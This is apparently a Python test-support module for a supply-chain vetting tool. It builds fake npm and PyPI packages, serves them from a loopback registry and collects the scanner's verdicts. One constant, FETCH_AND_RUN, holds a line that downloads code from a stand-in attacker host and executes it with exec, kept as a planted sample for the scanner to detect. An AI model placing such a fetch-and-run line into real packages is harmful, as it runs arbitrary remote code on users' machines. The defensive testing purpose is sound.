"""Package archives and a fake registry on loopback for the vet tests."""

from __future__ import annotations

import base64
import hashlib
import io
import json
import tarfile
import threading
import zipfile
from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

INCIDENT = Path(__file__).parent / "data" / "incident"


def npm_tarball(files: dict[str, bytes | str]) -> bytes:
    """An npm-pack-shaped tarball: every file under ``package/``."""
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w:gz") as archive:
        for name, content in files.items():
            data = content.encode() if isinstance(content, str) else content
            info = tarfile.TarInfo(f"package/{name}")
            info.size = len(data)
            info.mode = 0o644
            archive.addfile(info, io.BytesIO(data))
    return buffer.getvalue()


def folder_files(folder: Path) -> dict[str, bytes | str]:
    return {
        p.relative_to(folder).as_posix(): p.read_bytes() for p in sorted(folder.rglob("*")) if p.is_file()
    }


def wheel(name: str, version: str, files: dict[str, str], headers: str = "") -> bytes:
    """A wheel of ``files``; ``headers``: more lines of its core metadata (``Author-email: ...\n``)."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for path, text in files.items():
            archive.writestr(path, text)
        archive.writestr(
            f"{name}-{version}.dist-info/METADATA",
            f"Metadata-Version: 2.1\nName: {name}\nVersion: {version}\n{headers}\nA server.\n",
        )
    return buffer.getvalue()


def integrity(data: bytes) -> str:
    return "sha512-" + base64.b64encode(hashlib.sha512(data).digest()).decode()


class FakeRegistry:
    """npm and PyPI JSON APIs with archives, served on 127.0.0.1 for one test."""

    def __init__(self) -> None:
        self.routes: dict[str, bytes] = {}
        self.requests: list[str] = []

    def add_npm(
        self,
        name: str,
        versions: dict[str, bytes],
        base: str,
        *,
        publishers: dict[str, str] | None = None,
        times: dict[str, str] | None = None,
        attested: frozenset[str] = frozenset(),
    ) -> None:
        packument = {
            "name": name,
            "dist-tags": {"latest": list(versions)[-1]},
            "versions": {},
            "time": times or {},
        }
        for version, tarball in versions.items():
            path = f"/tarballs/{name.replace('/', '_')}-{version}.tgz"
            self.routes[path] = tarball
            packument["versions"][version] = {
                "name": name,
                "version": version,
                "dist": {"tarball": base + path, "integrity": integrity(tarball)},
                "_npmUser": {"name": (publishers or {}).get(version, "mailer-labs")},
                "maintainers": [{"name": (publishers or {}).get(version, "mailer-labs")}],
            }
            if version in attested:
                packument["versions"][version]["dist"]["attestations"] = {
                    "url": f"{base}/-/npm/v1/attestations/{name}@{version}",
                    "provenance": {"predicateType": "https://slsa.dev/provenance/v1"},
                }
        self.routes["/" + name.replace("/", "%2F")] = json.dumps(packument).encode()
        self.routes["/" + name] = self.routes["/" + name.replace("/", "%2F")]

    def add_pypi(self, name: str, versions: dict[str, tuple[str, bytes]], base: str) -> None:
        releases = {}
        for version, (filename, data) in versions.items():
            path = f"/files/{filename}"
            self.routes[path] = data
            releases[version] = [
                {
                    "filename": filename,
                    "url": base + path,
                    "packagetype": "bdist_wheel",
                    "digests": {"sha256": hashlib.sha256(data).hexdigest()},
                    "upload_time_iso_8601": "2025-09-01T00:00:00Z",
                }
            ]
        document = {
            "info": {"name": name, "version": list(versions)[-1], "author": "Mailer Labs"},
            "releases": releases,
        }
        self.routes[f"/pypi/{name}/json"] = json.dumps(document).encode()


@contextmanager
def serve(registry: FakeRegistry) -> Iterator[str]:
    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            registry.requests.append(self.path)
            body = registry.routes.get(self.path)
            self.send_response(200 if body is not None else 404)
            self.send_header("Content-Length", str(len(body or b"")))
            self.end_headers()
            self.wfile.write(body or b"")

        def log_message(self, *args: object) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    thread = threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.05}, daemon=True)
    thread.start()
    try:
        yield f"http://127.0.0.1:{server.server_address[1]}"
    finally:
        server.shutdown()
        server.server_close()
        thread.join(timeout=5)


def sdist(name: str, version: str, files: dict[str, str], pkg_info: str | None = None) -> bytes:
    """An sdist (``NAME-VERSION/`` of ``files``) with a root ``PKG-INFO``; ``pkg_info``: its
    text, else the bare name and version."""
    files = {
        "PKG-INFO": pkg_info or f"Metadata-Version: 2.1\nName: {name}\nVersion: {version}\n\nA server.\n",
        **files,
    }
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w:gz") as archive:
        for path, text in files.items():
            data = text.encode()
            info = tarfile.TarInfo(f"{name}-{version}/{path}")
            info.size = len(data)
            info.mode = 0o644
            archive.addfile(info, io.BytesIO(data))
    return buffer.getvalue()


#: Python that fetches code and runs it: what the vet attacks plant.
FETCH_AND_RUN = (
    'import urllib.request\nexec(urllib.request.urlopen("https://get.exfil-relay.net/x").read())\n'
)


def relay_sdist(
    folder: Path, version: str, files: dict[str, str], base: dict[str, str] | None = None
) -> Path:
    """``relay_mcp-VERSION.tar.gz`` in ``folder``: ``files`` over ``base`` (by default an empty
    package module)."""
    path = folder / f"relay_mcp-{version}.tar.gz"
    base = {"relay_mcp/__init__.py": ""} if base is None else base
    path.write_bytes(sdist("relay_mcp", version, {**base, **files}))
    return path


def vetted_both_ways(new: Path, old: Path, cache: Path) -> list[Any]:
    """vet's reports of ``new``: against ``old``, the release before, then on first look."""
    from mcpward.vet import VetOptions, run_vet

    return [
        run_vet(VetOptions(target=str(new), baseline=baseline, cache_dir=cache))
        for baseline in (str(old), None)
    ]


def verdicts_and_findings(new: Path, old: Path, cache: Path) -> list[str]:
    """Of :func:`vetted_both_ways`, each verdict then its findings above information, as
    ``rule:severity``."""
    found: list[str] = []
    for report in vetted_both_ways(new, old, cache):
        found.append(report.verdict)
        found.extend(f"{f.rule}:{f.severity.value}" for f in report.findings if f.severity.value != "info")
    return found
